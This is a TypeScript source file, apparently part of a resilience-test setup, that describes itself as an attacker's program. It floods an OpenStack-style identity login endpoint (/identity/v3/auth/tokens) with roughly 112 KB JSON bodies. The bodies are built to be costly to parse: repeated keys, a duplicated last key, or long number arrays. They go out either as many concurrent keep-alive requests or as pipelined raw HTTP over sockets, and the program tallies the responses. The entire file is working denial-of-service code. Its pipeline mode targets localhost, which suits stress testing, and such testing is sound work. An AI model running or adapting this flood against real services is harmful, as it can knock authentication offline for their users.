/** The program of an attacker who sends bodies that cost more to read than to send. It sends them until its input ends. */
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setPriority } from 'node:os'

/** Logins over HTTP. A row of a scenario. */
export type Bodies =
  /** How many are in flight at any time, on a connection each. */
  | { readonly inFlight: number; readonly of: keyof typeof CONTENTS }
  /** So many with that body at once, on one connection, again and again. */
  | { readonly pipelined: number; readonly body: string }

/** Size of the largest body that is read. */
const BODY_BYTES = 114_688

/** What a body begins and ends with, and its parts in between. */
const CONTENTS = {
  /** What is wrong is found at once. */
  'one key again and again': ['{"auth":{', () => '"a":0,', '"a":0}}'],
  /** It is found at the end. */
  'keys of which the last one repeats': ['{"auth":{', (index: number) => `"${index}":0,`, '"0":0}}'],
  /** It is no login, but there is nothing wrong with the JSON. */
  numbers: ['{"auth":[', () => '0,', '0]}'],
} as const

function bodyOf([beginning, part, end]: (typeof CONTENTS)[keyof typeof CONTENTS]): string {
  let body: string = beginning
  for (let index = 0; body.length + end.length < BODY_BYTES - 16; index++) body += part(index)
  return body + end
}

const PATH = '/identity/v3/auth/tokens'

const { http, bodies } = JSON.parse(process.argv[2] ?? '') as { http: string; bodies: Bodies }
setPriority(5)
const counts: Record<string, number> = {}
let over = false
process.stdin.resume().on('end', () => {
  over = true
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit(0))
})

function count(ending: string): void {
  if (Object.keys(counts).length === 0) process.stdout.write('attacking\n')
  counts[ending] = (counts[ending] ?? 0) + 1
}

/** Sends one body after the other. */
async function post(agent: Agent, body: string): Promise<void> {
  const headers = { 'content-type': 'application/json', 'content-length': body.length }
  while (!over)
    count(
      await new Promise((resolve) => {
        const posting = request(`http://${http}${PATH}`, { method: 'POST', agent, headers })
        posting.on('error', ({ message }) => resolve(message))
        posting.on('response', (answer) =>
          answer.resume().on('close', () => resolve(String(answer.statusCode))),
        )
        posting.end(body)
      }),
    )
}

/** Sends many requests in one write, and waits for all answers or for the end of the connection. */
async function pipeline(requests: number, body: string): Promise<void> {
  const head = `POST ${PATH} HTTP/1.1\r\nHost: ${http}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`
  while (!over)
    await new Promise<void>((resolve) => {
      const socket = connect(Number(http.slice(http.lastIndexOf(':') + 1)), '127.0.0.1')
      let answers = 0
      socket.on('error', () => {}).once('close', () => resolve(count('connections')))
      socket.on('data', (part) => {
        answers += part.toString('latin1').split('HTTP/1.1 ').length - 1
        if (answers >= requests) socket.destroy()
      })
      socket.write((head + body).repeat(requests))
    })
}

if ('pipelined' in bodies) void pipeline(bodies.pipelined, bodies.body)
else {
  const agent = new Agent({ keepAlive: true, maxSockets: bodies.inFlight })
  const body = bodyOf(CONTENTS[bodies.of])
  for (let loop = 0; loop < bodies.inFlight; loop++) void post(agent, body)
}
